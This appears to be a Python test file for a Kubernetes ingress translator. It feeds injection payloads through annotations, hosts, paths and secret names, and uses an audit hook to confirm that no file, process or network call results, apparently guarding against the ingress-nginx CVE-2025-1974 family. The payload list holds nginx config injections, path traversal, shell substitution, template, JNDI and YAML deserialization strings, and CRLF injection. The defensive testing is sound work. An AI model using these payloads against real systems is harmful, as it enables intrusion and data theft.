"""What an object says stays data: no value starts a program, opens a file or a connection, or becomes configuration.

The texts are those of the ways into ingress-nginx (CVE-2025-1974 and those before it: CVE-2025-1097, -1098, -24513,
-24514), where annotations were written into a configuration that the admission webhook then loaded, and of others of
their kind. An audit hook of Python sees everything that a process asks of its system.
"""

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from fakes.translator.deltas import applied, endpoint_slice, ingress, ref_of, service
from headgate.common.admission import Outcome, Proposal
from headgate.common.table import entry_key
from headgate.translator.admission.examine import examine
from headgate.translator.annotations import INGRESS_ANNOTATIONS, SERVICE_ANNOTATIONS
from headgate.translator.composition import DIALECTS
from headgate.translator.offline import translate_all
from headgate.translator.translation import Translation

TEXTS = (
    "http://example.com/#;}\n}\nssl_engine /proc/self/fd/7;\n#",
    'CN=x"){}\n}\nload_module /tmp/evil.so;\nserver{location ~ "',
    "/a;} location /b { root /etc; }",
    "../../../../../proc/self/environ",
    "file:///etc/passwd",
    "$(touch /tmp/evil) `id` |id ;id",
    "{{ ().__class__.__base__.__subclasses__() }} {% import os %} ${jndi:ldap://evil/}",
    "!!python/object/apply:os.system ['id']",
    "name: x\n- name: file-logger\n  config: {path: /etc/passwd}",
    "__import__('os').system('id')",
    "(a+)+$" + "(" * 50,
    "\x00\r\nX-Evil: 1",
)
ASKED = (
    "open",
    "os.",
    "subprocess.",
    "socket.",
    "ctypes.",
    "exec",
    "compile",
    "import",
    "urllib.",
    "shutil.",
    "pickle.",
)
"""Audit events that begin so: https://docs.python.org/3/library/audit_events.html"""
_seen: list[str] | None = None


def _note(event: str, arguments: Any) -> None:
    if _seen is not None and event.startswith(ASKED):
        _seen.append(f"{event} {arguments}")


sys.addaudithook(_note)  # there is no way to take it away again; it does nothing while nobody looks


@contextmanager
def watched() -> Iterator[list[str]]:
    """Collect what is asked of the system while the block runs."""
    global _seen
    _seen = found = []
    try:
        yield found
    finally:
        _seen = None


def annotated(manifest: Any, name: str, text: str) -> Any:
    manifest["metadata"]["annotations"] = {f"headgate.dev/{name}": text}
    return manifest


def poisoned(text: str) -> Iterator[Any]:
    """Objects that have a text wherever somebody may write one."""
    for annotation in INGRESS_ANNOTATIONS:
        yield annotated(ingress("evil", host="evil.example"), annotation.name, text)
    for annotation in SERVICE_ANNOTATIONS:
        yield annotated(service("evil"), annotation.name, text)
    yield ingress("evil", host=text)
    by_path = ingress("evil", host="evil.example")
    by_path["spec"]["rules"][0]["http"]["paths"][0]["path"] = text
    yield by_path
    by_uid = ingress("evil", host="evil.example")
    by_uid["metadata"]["uid"] = text
    yield by_uid
    by_secret = ingress("evil", host="evil.example")
    by_secret["spec"]["tls"] = [{"hosts": ["evil.example"], "secretName": text}]
    yield by_secret


def world(*manifests: Any) -> Translation:
    translation = Translation(DIALECTS)
    translation.activate("a")
    for manifest in manifests:
        translation.apply(applied(manifest))
    for _ in translation.settle():
        pass
    return translation


GOOD = (ingress("good", host="good.example"), service("web"), endpoint_slice("web", "10.0.0.1"))


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_judging_and_translating_ask_nothing_of_the_system(text: str) -> None:
    translation = world(*GOOD)
    evil = [*poisoned(text)]
    for _ in range(2):  # what is read and compiled when it is first used was read by the first round
        with watched() as found:
            for manifest in evil:
                opinion = examine(translation, Proposal(ref=ref_of(manifest), object=manifest, is_update=False))
                assert opinion.outcome in (Outcome.JUDGED, Outcome.FOREIGN)
                world(manifest)
    assert found == []


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_nothing_else_in_the_table_changes(text: str) -> None:
    def table(*more: Any) -> dict[str, Any]:
        entries = translate_all([applied(manifest) for manifest in (*GOOD, *more)]).entries
        return {entry_key(entry): entry.model_copy(update={"provenance": None}) for entry in entries}

    usual = {key: table()[key] for key in ("good.example", "a/default/web:80")}
    for manifest in poisoned(text):
        assert {key: table(manifest)[key] for key in usual} == usual


def test_the_hook_sees_what_it_is_there_for() -> None:
    with watched() as found:
        open("/dev/null").close()
    assert [event.split()[0] for event in found] == ["open"]
